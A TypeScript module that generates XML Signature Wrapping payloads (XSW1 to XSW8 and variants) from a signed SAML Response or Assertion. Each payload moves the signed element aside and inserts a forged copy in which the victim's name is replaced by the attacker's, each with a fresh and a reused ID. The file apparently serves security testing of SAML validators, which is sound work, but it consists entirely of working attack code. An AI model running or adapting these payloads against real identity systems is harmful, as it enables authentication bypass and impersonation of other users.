/**
 * Signature wrapping: the signed element is kept somewhere in the message, where the signature still
 * finds it, and a forged one stands where claims are read. Eight arrangements, each for a signed
 * response and a signed assertion, each with a fresh and with the same id.
 */
type Target = 'Response' | 'Assertion';

const signaturePattern = /<ds:Signature[\s\S]*?<\/ds:Signature>/;

function pieces(xml: string, target: Target) {
  const prefix = target === 'Response' ? 'samlp' : 'saml';
  const [element = ''] =
    new RegExp(`<${prefix}:${target}[\\s\\S]*</${prefix}:${target}>`).exec(xml) ?? [];
  const [signature = ''] = signaturePattern.exec(element) ?? [];
  const original = element.replace(signature, '');
  const [, id = ''] = / ID="([^"]*)"/.exec(original) ?? [];
  return { element, signature, original, id };
}

const inject = (element: string, before: string, added: string) =>
  element.replace(before, () => `${added}${before}`);

export type WrappedAnswer = { readonly name: string; readonly xml: string };

export function wrappedAnswers(
  signed: string,
  target: Target,
  victim: string,
  attacker: string,
): readonly WrappedAnswer[] {
  const { element, signature, original, id } = pieces(signed, target);
  const closing = target === 'Response' ? '</samlp:Response>' : '</saml:Assertion>';
  const status = target === 'Response' ? '<samlp:Status>' : '<saml:Subject>';
  const inPlace = (replacement: string) => signed.replace(element, () => replacement);
  const within = (part: string) =>
    signature.replace('</ds:Signature>', () => `${part}</ds:Signature>`);

  return ['a fresh id', 'the same id'].flatMap((ids) => {
    const forged = (ids === 'a fresh id' ? original.replace(id, `_evil${id}`) : original)
      // Somebody else is named, and everything else is as it was.
      .replace(victim, attacker);
    const forgedAround = (part: string) => inject(forged, status, part);
    const forgedEnding = (part: string) => `${forged.slice(0, -closing.length)}${part}${closing}`;
    const extensions = (part: string) =>
      `<samlp:Extensions xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol">${part}</samlp:Extensions>`;
    const object = (part: string) => `<ds:Object>${part}</ds:Object>`;
    const wrap = (name: string, xml: string) => ({ name: `${name} of a ${target}, ${ids}`, xml });
    const beside = (part: string) =>
      target === 'Response' ? forgedAround(part) : `${forged}${part}`;
    return [
      wrap('XSW1', inPlace(forgedAround(within(original)))),
      wrap('XSW2', inPlace(forgedAround(`${original}${signature}`))),
      wrap('XSW3', inPlace(beside(element))),
      wrap('XSW4', inPlace(forgedEnding(element))),
      wrap(
        'XSW5',
        inPlace(
          target === 'Response'
            ? forgedAround(signature).replace(closing, () => `${original}${closing}`)
            : `${forgedAround(signature)}${original}`,
        ),
      ),
      wrap(
        'XSW6',
        inPlace(forgedAround(signature.replace('<ds:KeyInfo>', () => `${original}<ds:KeyInfo>`))),
      ),
      wrap(
        'XSW7',
        inPlace(
          target === 'Response'
            ? forgedAround(extensions(element))
            : `${extensions(forged)}${element}`,
        ),
      ),
      wrap(
        'XSW7 reversed',
        inPlace(
          target === 'Response'
            ? inject(element, '<saml:Issuer', extensions(forged))
            : `${extensions(element)}${forged}`,
        ),
      ),
      wrap('XSW8', inPlace(forgedAround(within(object(original))))),
    ];
  });
}
